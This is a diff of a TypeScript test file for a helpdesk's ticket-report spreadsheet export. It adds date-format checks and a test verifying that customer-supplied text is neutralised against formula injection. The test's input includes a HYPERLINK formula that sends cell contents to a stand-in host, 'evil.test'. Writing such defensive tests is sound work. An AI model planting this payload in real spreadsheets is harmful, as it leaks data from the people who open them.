@@ -1,6 +1,6 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { bearer, createUser, signupCompany, startTestServer, type TestServer } from './harness';
+import { bearer, createUser, settle, signupCompany, startTestServer, type TestServer } from './harness';
 
 let server: TestServer;
 let admin: { token: string; companyId: number; userId: number };
@@ -74,7 +74,12 @@ describe('tickets report', () => {
     expect(sheet.rowCount).toBe(9);
     expect(sheet.getRow(2).getCell(1).value).toBe(tickets[11]);
     expect(sheet.getRow(2).getCell(4).value).toBe(contacts[11]!.number);
-    expect(String(sheet.getRow(2).getCell(9).value)).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
+    // Abertura and Fechamento are date cells (the company's wall-clock time) with a date-time format.
+    const opened = sheet.getRow(2).getCell(9);
+    expect(opened.value).toBeInstanceOf(Date);
+    expect(opened.numFmt).toBe('dd/mm/yyyy hh:mm');
+    expect(Math.abs((opened.value as Date).getTime() - Date.now())).toBeLessThan(15 * 3_600_000);
+    expect(sheet.getRow(2).getCell(10).value).toBeNull();
   });
 
   it('masks numbers for a plain user while lgpdHideNumber is on', async () => {
@@ -111,5 +116,29 @@ describe('tickets report', () => {
     expect(seen.contactName).toContain('*');
     const whole = (await call(admin.token, 'GET', url)).json().tickets.find((t: { id: number }) => t.id === ticket.json().id);
     expect(whole.contactName).toBe('5521977999999');
+  });
+});
+
+describe('tickets report spreadsheet cells', () => {
+  it('writes what a customer wrote, and a name a spreadsheet would run, as text (a leading apostrophe); closing dates as date cells', async () => {
+    const sandbox = await call(admin.token, 'POST', '/whatsapp', { name: 'Sandbox relatório', channel: 'sandbox' });
+    expect(sandbox.statusCode, sandbox.body).toBe(201);
+    const name = '@SUM(1+1)';
+    const message = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
+    const said = await server.app.inject({ method: 'POST', url: `/sandbox/${sandbox.json().id}/messages`, headers: bearer(sandbox.json().token), payload: { from: '5521977999001', name, body: message } });
+    expect(said.statusCode, said.body).toBe(202);
+    await settle(server);
+    const ticketId = said.json().ticketId as number;
+    expect((await call(admin.token, 'PUT', `/tickets/${ticketId}`, { status: 'closed' })).statusCode).toBe(200);
+    const response = await call(admin.token, 'GET', '/ticket/reports/export');
+    const sheet = (await workbookOf(response.rawPayload)).getWorksheet('RelatorioDeAtendimentos')!;
+    const rows = sheet.getSheetValues().filter((row): row is ExcelJS.CellValue[] => Array.isArray(row));
+    const row = rows.find((values) => values[1] === ticketId)!;
+    expect(row[3]).toBe(`'${name}`);
+    expect(row[8]).toBe(`'${message}`);
+    expect(row[10]).toBeInstanceOf(Date);
+    expect(sheet.getRow(rows.indexOf(row) + 1).getCell(10).numFmt).toBe('dd/mm/yyyy hh:mm');
+    // No cell of the sheet starts as a formula would.
+    expect(rows.flat().filter((cell) => typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 });
